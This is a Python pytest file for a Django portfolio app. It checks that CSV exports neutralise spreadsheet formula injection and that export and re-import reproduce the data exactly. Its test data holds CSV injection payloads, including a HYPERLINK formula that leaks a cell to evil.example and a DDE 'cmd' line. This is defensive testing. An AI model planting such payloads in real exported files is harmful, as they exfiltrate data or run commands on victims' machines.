"""Issue #14 item 5: the CSV export must not hand a spreadsheet a formula to run (OWASP CSV
injection), and neutralising must not cost the round trip export -> import."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from portfolio import services
from portfolio.models import Portfolio
from portfolio.transfer import NUMERIC_COLUMNS, neutralise_cell, restore_cell
from tests.security.conftest import World

pytestmark = pytest.mark.django_db

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "'=already quoted",
    "''+twice quoted",
    "'Tis a plain note",
    "a=b, not a formula",
]


def record_hostile_text(portfolio: Portfolio) -> None:
    for number, text in enumerate(HOSTILE):
        services.transaction_record(
            portfolio=portfolio,
            kind="DEPOSIT",
            amount=Decimal(1000 + number),
            trade_date=date(2025, 3, 4),
            note=text,
            external_id=f"{text[:90]}#{number}",
        )


def export_csv(world: World) -> str:
    response = world.attacker.client.get(
        f"/api/portfolios/{world.attacker.portfolio.pk}/export/?format=csv"
    )
    assert response.status_code == 200
    return response.content.decode()


def test_an_exported_csv_has_no_cell_starting_with_a_formula_character(world: World) -> None:
    stored = world.attacker.portfolio.transactions.count()
    record_hostile_text(world.attacker.portfolio)

    rows = list(csv.DictReader(io.StringIO(export_csv(world))))

    assert len(rows) == len(HOSTILE) + stored
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START), (column, cell)
            if column in NUMERIC_COLUMNS and cell:
                assert Decimal(cell) >= 0, (column, cell)
    notes = {row["note"] for row in rows}
    assert "'@SUM(1+1)" in notes
    assert "'Tis a plain note" in notes


def test_export_then_import_gives_back_formula_like_text_exactly(world: World) -> None:
    record_hostile_text(world.attacker.portfolio)
    exported = export_csv(world).encode()
    copy = services.portfolio_create(owner=world.attacker.user, name="Copy")

    response = world.attacker.client.post(
        f"/api/portfolios/{copy.pk}/import/",
        {"file": SimpleUploadedFile("export.csv", exported)},
        format="multipart",
    )

    assert response.status_code == 201, response.content
    original = world.attacker.portfolio.transactions
    fields = ("kind", "amount", "trade_date", "note", "external_id")
    assert list(copy.transactions.order_by("id").values_list(*fields)) == list(
        original.order_by("id").values_list(*fields)
    )
    assert copy.transactions.filter(note="'=already quoted").count() == 1


@pytest.mark.parametrize("text", [*HOSTILE, "", "'", "''", "plain", "\tleading tab", "\rcr"])
def test_neutralising_is_undone_exactly(text: str) -> None:
    neutral = neutralise_cell(text)

    assert not neutral.startswith(FORMULA_START)
    assert restore_cell(neutral) == text


def test_number_columns_stay_numbers(world: Any) -> None:
    services.transaction_record(
        portfolio=world.attacker.portfolio,
        kind="BUY",
        symbol="FPT",
        quantity=100,
        price=Decimal(100_000),
        trade_date=date(2025, 3, 4),
        note="-sold later",
    )

    rows = list(csv.DictReader(io.StringIO(export_csv(world))))

    buy = next(row for row in rows if row["kind"] == "BUY" and row["note"] == "'-sold later")
    assert (buy["quantity"], buy["price"], buy["note"]) == ("100", "100000", "'-sold later")
